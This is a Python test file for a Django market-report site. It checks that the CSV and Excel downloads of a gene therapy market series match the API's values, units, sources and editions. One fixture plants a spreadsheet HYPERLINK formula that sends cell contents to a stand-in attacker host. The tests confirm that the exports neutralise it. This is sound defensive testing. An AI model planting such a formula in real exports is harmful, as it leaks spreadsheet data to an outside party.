"""The yearly series as a data user reads it: pandas reads the CSV and the Excel
workbook to the same values as the page and the API, with where each value
counts, its unit, how it was made, its source and its edition on every row."""

import io
import re
import zipfile
from decimal import Decimal

import pandas as pd
import pytest
from django.test import Client
from openpyxl import load_workbook

from gtmp_site.core.cells import read_cell
from market.models import MarketFigure
from tests.factories import publish

pytestmark = pytest.mark.django_db

REPORT = "/reports/us-gene-therapy-medicinal-products-market/"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


@pytest.fixture
def with_segment(report):
    """Edition 2: a sourced Cancer figure for 2022 and 2030 (so years between are
    computed), and a formula in the whole market's 2030 source."""
    cancer = report.segments.get(slug="cancer")
    for year, value in ((2022, "1.000"), (2030, "3.000")):
        MarketFigure.objects.create(report=report, segment=cancer, year=year, kind="estimate",
                                    value=Decimal(value), source="Test source")  # fmt: skip
    MarketFigure.objects.filter(report=report, segment=None, year=2030).update(source=FORMULA)
    return publish(report)


def frames(client, base):
    csv = pd.read_csv(io.BytesIO(client.get(f"{base}data.csv").content))
    xlsx = pd.read_excel(io.BytesIO(client.get(f"{base}data.xlsx").content), sheet_name="Data")
    return csv, xlsx


@pytest.mark.parametrize("base", [REPORT, f"{REPORT}editions/2/"])
def test_pandas_reads_csv_and_excel_to_the_api_s_values(report, with_segment, api, base):
    client = Client()
    csv, xlsx = frames(client, base)
    # The same table and types; the CSV's guard apostrophe is the one difference.
    pd.testing.assert_frame_equal(csv.assign(source=csv["source"].map(read_cell)), xlsx)
    assert csv["year"].dtype == "int64" and csv["value"].dtype == "float64"
    assert csv["computed"].dtype == "bool"
    assert set(csv["edition"].astype(str)) == {"2"}
    assert set(csv["unit"]) == {"USD billion"} and set(csv["currency"]) == {"USD"}
    forecast = api.get(f"/api/v1{REPORT}forecast/").json()
    expected = [
        (series["segment"], p["year"], float(Decimal(p["value"])), p["kind"], p["computed"])
        for series in forecast["series"] for p in series["points"]
    ]  # fmt: skip
    read = [
        (None if pd.isna(r.segment_name) else r.segment_name, r.year, r.value, r.kind, r.computed)
        for r in csv.itertuples()
    ]
    assert read == expected
    cancer = csv[csv["segment"] == "cancer"]
    assert set(cancer["scope"]) == {"United States: Cancer"} and len(cancer) == 9
    assert set(csv[csv["segment"].isna()]["scope"]) == {"United States"}
    # Each computed value names the values it is computed from; entered ones their source.
    for row in csv.itertuples():
        if row.computed:
            assert row.source.startswith("computed by constant growth from "), row
            assert " in 2022 " in row.source and " in 2030 " in row.source, row
        else:
            assert row.source in {"Verified Market Reports", "Test source", f"'{FORMULA}"}, row


def test_the_workbook_has_typed_cells_inert_formulas_and_a_sheet_about_the_data(
    report, with_segment
):
    body = Client().get(f"{REPORT}editions/2/data.xlsx").content
    book = load_workbook(io.BytesIO(body))
    data = book["Data"]
    header = [cell.value for cell in data[1]]
    first = dict(zip(header, data[2], strict=True))
    assert first["value"].data_type == "n" and first["year"].data_type == "n"
    assert first["computed"].data_type == "b"
    sources = [row[header.index("source")] for row in data.iter_rows(min_row=2)]
    formula = [cell for cell in sources if cell.value == FORMULA]
    assert formula and all(cell.data_type == "s" for cell in formula)  # text, never run
    about = {row[0].value: row[1].value for row in book["About"].iter_rows()}
    assert about["Edition URL"].endswith(f"{REPORT}editions/2/")
    assert "Creative Commons Attribution 4.0" in about["Licence"]
    assert "Edition 2" in about["Cite as"] or "edition 2" in about["Cite as"].lower()
    assert set(header) <= {label.removeprefix("Column: ") for label in about}


def test_the_page_offers_the_series_in_each_format_for_its_edition(report, with_segment):
    client = Client()
    for page, base in ((REPORT, REPORT), (f"{REPORT}editions/1/", f"{REPORT}editions/1/")):
        html = client.get(page).content.decode()
        for name in ("data.csv", "data.xlsx", "data.json", "datapackage.zip"):
            assert f'href="{base}{name}"' in html, (page, name)
    assert client.get(f"{REPORT}editions/1/data.xlsx")["Content-Type"].endswith(".sheet")


def test_the_latest_workbook_and_package_follow_a_new_edition_and_old_ones_stay(report):
    """Each is read once (so cached) before edition 2 is published."""
    client = Client()

    def end_value(path):
        if path.endswith(".zip"):
            with zipfile.ZipFile(io.BytesIO(client.get(path).content)) as archive:
                name = next(n for n in archive.namelist() if n.endswith("market-size.csv"))
                table = pd.read_csv(archive.open(name))
        else:
            table = pd.read_excel(io.BytesIO(client.get(path).content), sheet_name="Data")
        return table[table["year"] == 2030]["value"].iloc[0]

    for name in ("data.xlsx", "datapackage.zip"):
        assert end_value(f"{REPORT}{name}") == 14.4
    figure = MarketFigure.objects.get(report=report, segment=None, year=2030)
    figure.value = Decimal("20.000")
    figure.save()
    publish(report)
    for name in ("data.xlsx", "datapackage.zip"):
        assert end_value(f"{REPORT}{name}") == 20.0, name
        assert end_value(f"{REPORT}editions/1/{name}") == 14.4, name


def test_get_the_data_gives_each_download_s_real_size(report):
    from django.template.defaultfilters import filesizeformat

    client = Client()
    html = client.get(REPORT).content.decode()
    panel = html[html.index('<section id="downloads">') :].split("</section>")[0]
    found = re.findall(r'<a href="([^"]+)">[^<]*</a> \(([^)]+)\)', panel)
    assert len(found) == 4  # CSV, Excel, JSON, data package
    for url, size in found:
        assert size.replace("\xa0", " ") == filesizeformat(len(client.get(url).content)).replace(
            "\xa0", " "
        ), url
